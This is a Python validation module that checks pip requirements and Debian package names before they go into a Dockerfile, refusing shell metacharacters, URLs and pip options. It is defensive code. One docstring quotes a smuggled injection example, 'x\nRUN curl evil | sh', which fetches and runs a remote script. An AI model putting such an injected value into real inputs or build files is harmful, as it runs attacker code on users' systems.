"""Package entries users type: pip requirements and Debian package names, checked.

Every entry a user typed (``--pip``, ``--apt``, a requirements file, ``image update
--add-*``) is checked here and refused with :class:`~ds01.errors.UsageError` (exit 2)
before it can reach a Dockerfile: a pip entry must be a PEP 508 requirement written with a
small, shell-inert alphabet (no quotes, ``$``, backticks, backslashes, newlines, ``;``,
``|``, ``&``, URLs or pip options); an apt entry must be a Debian package name, optionally
``=version``. A refusal names each offending entry by where it came from and a short
:func:`excerpt`, never the whole entry; reasons and the list of offenders are bounded.
The tiers built from these entries are in :mod:`ds01.domain.packages`.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from typing import NoReturn, TypeVar

from packaging.requirements import InvalidRequirement, Requirement
from packaging.utils import canonicalize_name

from ds01.errors import ErrorCode, UsageError

__all__ = [
    "APT_HINT",
    "EXCERPT_CHARS",
    "MAX_LISTED",
    "PIP_HINT",
    "REQUIREMENTS_HINT",
    "AptSpec",
    "PipSpec",
    "apt_spec",
    "collect_apt",
    "collect_pip",
    "collect_requirements",
    "excerpt",
    "hint_for",
    "parse_apt_specs",
    "parse_pip_specs",
    "parse_requirements",
    "pip_spec",
    "plain_excerpt",
    "refuse_entries",
    "split_package_list",
]

_MAX_ENTRY = 200
#: How much of a refused entry an error shows: enough to find it, too little to turn the
#: error into a way of reading a file.
EXCERPT_CHARS = 40
_MAX_REASON = 160  # characters of one refusal reason
MAX_LISTED = 20  # offenders listed in a refusal (message and details alike)
_MAX_BAD_CHARS = 8  # distinct refused characters named in one reason
# What a pip entry may contain as typed (requirements lines may space out operators), and
# what its canonical form may contain once packaging has re-rendered it. Neither alphabet
# holds a character the shell or the Dockerfile parser gives meaning to inside single quotes.
_PIP_TYPED_CHAR = re.compile(r"[A-Za-z0-9._\-\[\],<>=!~*+() ]")
_PIP_RENDERED = re.compile(r"[A-Za-z0-9._\-\[\],<>=!~*+]+")
_APT_NAME = re.compile(r"[a-z0-9][a-z0-9+.-]+")
_APT_VERSION = re.compile(r"(?:[0-9]+:)?[0-9][A-Za-z0-9.+~-]*")


class _Rejected(Exception):
    """Internal: one entry is unusable; ``args[0]`` says why. Always becomes a UsageError."""


@dataclass(frozen=True)
class PipSpec:
    """One validated pip requirement. ``text`` is what goes into the Dockerfile."""

    name: str  # PEP 503 normalised
    text: str  # packaging's canonical rendering, e.g. "numpy<3,>=1.26"
    extras: tuple[str, ...] = ()
    specifier: str = ""

    @property
    def pinned(self) -> bool:
        """True when a version specifier was given."""
        return bool(self.specifier)

    def __str__(self) -> str:
        return self.text


@dataclass(frozen=True)
class AptSpec:
    """One validated Debian package, optionally with ``=version``."""

    name: str
    version: str | None = None

    @property
    def pinned(self) -> bool:
        return self.version is not None

    @property
    def text(self) -> str:
        return self.name if self.version is None else f"{self.name}={self.version}"

    def __str__(self) -> str:
        return self.text


_Spec = TypeVar("_Spec", PipSpec, AptSpec)


def excerpt(text: str, limit: int = EXCERPT_CHARS) -> str:
    """``text`` quoted for an error message, as its ``repr`` (non-printable characters
    escaped, e.g. ``'x\\nRUN'``) showing at most ``limit`` characters between the quotes,
    and ``…`` before the closing quote when cut. Bounded whatever ``text`` holds."""
    end = 0
    # Only the first ``limit`` characters can fit, so this looks at no more than those.
    while end < len(text) and len(repr(text[: end + 1])) - 2 <= limit:
        end += 1
    shown = repr(text[:end])
    return shown if end == len(text) else f"{shown[:-1]}…{shown[-1]}"


def plain_excerpt(text: str, limit: int = EXCERPT_CHARS) -> str:
    """:func:`excerpt` without the quotes: for file names and validated package texts."""
    return excerpt(text, limit)[1:-1]


def _bad_chars(text: str, allowed: re.Pattern[str]) -> str:
    bad = sorted({c for c in text if not allowed.fullmatch(c)})
    named = " ".join(repr(c) for c in bad[:_MAX_BAD_CHARS])
    return named + (f" and {len(bad) - _MAX_BAD_CHARS} more" if len(bad) > _MAX_BAD_CHARS else "")


def pip_spec(text: str, *, spaces_allowed: bool = False) -> PipSpec:
    if not text.strip():
        raise _Rejected("it is empty")
    if len(text) > _MAX_ENTRY:
        raise _Rejected(f"it is longer than {_MAX_ENTRY} characters")
    stripped = text.strip()
    if stripped.startswith("-"):
        raise _Rejected("pip options are not accepted, only package requirements")
    if "@" in text or "://" in text:
        raise _Rejected(
            "direct references ('name @ URL' or a file path) are refused: DS01 installs "
            "only named packages from the package index"
        )
    if ";" in text:
        raise _Rejected(
            "environment markers ('; python_version ...') are not supported: the image has "
            "exactly one Python, so give the version you want instead"
        )
    bad = _bad_chars(text, _PIP_TYPED_CHAR)
    if bad:
        raise _Rejected(f"it contains characters that can't go on a Dockerfile line: {bad}")
    if " " in text and not spaces_allowed:
        raise _Rejected(
            f"it contains spaces; write it without them, e.g. {excerpt(stripped.replace(' ', ''))}"
        )
    try:
        req = Requirement(stripped)
    except InvalidRequirement as exc:
        # packaging's first line, which may quote part of the entry: kept short.
        reason = plain_excerpt(str(exc).splitlines()[0], 80) if str(exc) else "unparseable"
        raise _Rejected(f"it is not a valid PEP 508 requirement ({reason})") from exc
    if req.url is not None or req.marker is not None:  # excluded above; kept as a backstop
        raise _Rejected("URLs and environment markers are refused")
    rendered = str(req)
    if not _PIP_RENDERED.fullmatch(rendered):
        raise _Rejected(f"its canonical form {excerpt(rendered)} is not safe to write")
    return PipSpec(
        name=canonicalize_name(req.name),
        text=rendered,
        extras=tuple(sorted(req.extras)),
        specifier=str(req.specifier),
    )


def apt_spec(text: str) -> AptSpec:
    if not text:
        raise _Rejected("it is empty")
    if len(text) > _MAX_ENTRY:
        raise _Rejected(f"it is longer than {_MAX_ENTRY} characters")
    name, sep, version = text.partition("=")
    if not _APT_NAME.fullmatch(name):
        if name.lower() != name and _APT_NAME.fullmatch(name.lower()):
            raise _Rejected(f"Debian package names are lower case: {excerpt(name.lower())}")
        raise _Rejected(
            "not a Debian package name (lower-case letters, digits, '+', '-', '.'; at least "
            "two characters; no ':arch' or '/release' suffix)"
        )
    if not sep:
        return AptSpec(name=name)
    if not _APT_VERSION.fullmatch(version):
        raise _Rejected(
            f"{excerpt(version)} is not a Debian version ([epoch:]upstream[-revision], "
            "starting with a digit)"
        )
    return AptSpec(name=name, version=version)


def _capped(reason: str) -> str:
    return reason if len(reason) <= _MAX_REASON else reason[: _MAX_REASON - 1] + "…"


def hint_for(*, pip: bool = False, apt: bool = False, requirements: bool = False) -> str:
    """The advice for a refusal: only about the kinds of entry that were refused, so an
    ``--apt`` mistake is not answered with pip's syntax."""
    parts = [
        text
        for wanted, text in ((pip, PIP_HINT), (apt, APT_HINT), (requirements, REQUIREMENTS_HINT))
        if wanted
    ]
    return " ".join(parts) or PIP_HINT


def refuse_entries(what: str, problems: Sequence[tuple[str, str]], hint: str) -> NoReturn:
    """Refuse (exit 2) listing the first offenders. Each entry is already an excerpt
    (see :func:`excerpt`); ``details["invalid_total"]`` counts them all."""
    shown = [{"entry": e, "reason": _capped(r)} for e, r in problems[:MAX_LISTED]]
    listed = "\n".join(f"  {item['entry']}: {item['reason']}" for item in shown)
    left = len(problems) - len(shown)
    more = f"\n  ... and {left} more" if left else ""
    raise UsageError(
        f"{what}; nothing was written or built:\n{listed}{more}",
        hint=hint,
        code=ErrorCode.INVALID_PACKAGE,
        details={"invalid": shown, "invalid_total": len(problems)},
    )


PIP_HINT = (
    "Give each package as a PEP 508 requirement without spaces, e.g. 'pandas' or "
    "'numpy>=1.26,<3'; separate packages with spaces."
)
APT_HINT = "Give Debian package names such as 'ffmpeg' or 'libsndfile1=1.2.0-1'."


def split_package_list(value: str) -> list[str]:
    """Split a ``--pip "a b"`` / ``--apt "a b"`` value into entries.

    Only spaces and tabs separate entries: a newline (or any other character) stays inside
    its entry, so ``'x\\nRUN curl evil | sh'`` reaches validation whole and is refused.
    """
    return [word for word in re.split(r"[ \t]+", value) if word]


def _collect(
    items: Iterable[str],
    parse: Callable[[str], _Spec],
    source: str,
    problems: list[tuple[str, str]],
) -> list[_Spec]:
    # An entry ``parse`` rejects goes to ``problems`` instead, so that every offender is
    # reported at once rather than one per attempt.
    specs: list[_Spec] = []
    for item in items:
        try:
            specs.append(parse(item))
        except _Rejected as exc:
            problems.append((f"{source} {excerpt(item)}", str(exc)))
    return specs


def collect_pip(
    items: Iterable[str], source: str, problems: list[tuple[str, str]]
) -> list[PipSpec]:
    return _collect(items, pip_spec, source, problems)


def collect_apt(
    items: Iterable[str], source: str, problems: list[tuple[str, str]]
) -> list[AptSpec]:
    return _collect(items, apt_spec, source, problems)


def parse_pip_specs(items: Iterable[str], *, source: str = "--pip") -> tuple[PipSpec, ...]:
    """Validate pip entries (one requirement each); refuse all offenders at once (exit 2)."""
    problems: list[tuple[str, str]] = []
    specs = collect_pip(items, source, problems)
    if problems:
        refuse_entries("Some pip packages can't be used", problems, PIP_HINT)
    return tuple(specs)


def parse_apt_specs(items: Iterable[str], *, source: str = "--apt") -> tuple[AptSpec, ...]:
    """Validate apt entries (``name`` or ``name=version``); refuse all offenders (exit 2)."""
    problems: list[tuple[str, str]] = []
    specs = collect_apt(items, source, problems)
    if problems:
        refuse_entries("Some apt packages can't be used", problems, APT_HINT)
    return tuple(specs)


_OPTION_ADVICE = (
    ("-r", "nested requirement files are not followed: paste that file's lines here"),
    ("--requirement", "nested requirement files are not followed: paste that file's lines here"),
    ("-c", "constraint files are not supported: pin the versions in this file instead"),
    ("--constraint", "constraint files are not supported: pin the versions here instead"),
    ("-e", "editable installs need your source tree: install it inside the container"),
    ("--editable", "editable installs need your source tree: install it inside the container"),
    ("-i", "index options are set by the administrator (build.pip_index_url)"),
    ("--index-url", "index options are set by the administrator (build.pip_index_url)"),
    ("--extra-index-url", "index options are set by the administrator (build.pip_index_url)"),
)


def _requirement_line(line: str) -> PipSpec:
    if line.endswith("\\"):
        raise _Rejected(
            "line continuations are not supported; put each requirement on one line "
            "(pip-compile: use --no-generate-hashes)"
        )
    if line.startswith("-"):
        option = re.split(r"[ =]", line, maxsplit=1)[0]
        advice = dict(_OPTION_ADVICE).get(option, "pip options are not applied by DS01")
        raise _Rejected(f"option line {excerpt(option)} refused: {advice}")
    if re.search(r"\s--?[A-Za-z]", line):
        raise _Rejected("per-requirement options (such as --hash) are not supported")
    if "@" in line and "file:" in line:
        raise _Rejected(
            "a direct reference to a local file (typical of 'pip freeze' in a conda "
            "environment); export with 'pip list --format=freeze' instead"
        )
    return pip_spec(line, spaces_allowed=True)


def collect_requirements(
    text: str, filename: str, problems: list[tuple[str, str]]
) -> list[PipSpec]:
    specs: list[PipSpec] = []
    for number, raw in enumerate(text.removeprefix("\ufeff").splitlines(), start=1):
        line = re.sub(r"(^|\s)#.*$", "", raw).strip()
        if not line:
            continue
        try:
            specs.append(_requirement_line(line))
        except _Rejected as exc:
            problems.append(
                (f"{plain_excerpt(filename)}:{number} {excerpt(raw.strip())}", str(exc))
            )
    return specs


REQUIREMENTS_HINT = (
    "Keep one requirement per line, such as 'pandas>=2' or 'torch==2.5.1'; remove option "
    "lines, URLs and environment markers."
)


def parse_requirements(text: str, *, filename: str = "requirements.txt") -> tuple[PipSpec, ...]:
    """Parse a requirements file's contents: one requirement per line.

    Blank lines and comments (``#`` at the start or after whitespace) are skipped. Option
    lines (``-r``, ``-e``, ``--index-url``, ...) are **refused**, not dropped: a user who
    wrote them expects them to apply, and silently ignoring them builds something else.
    Every offending line is reported with its number (exit 2).
    """
    problems: list[tuple[str, str]] = []
    specs = collect_requirements(text, filename, problems)
    if problems:
        refuse_entries(
            f"{plain_excerpt(filename)} has lines DS01 can't use", problems, REQUIREMENTS_HINT
        )
    return tuple(specs)
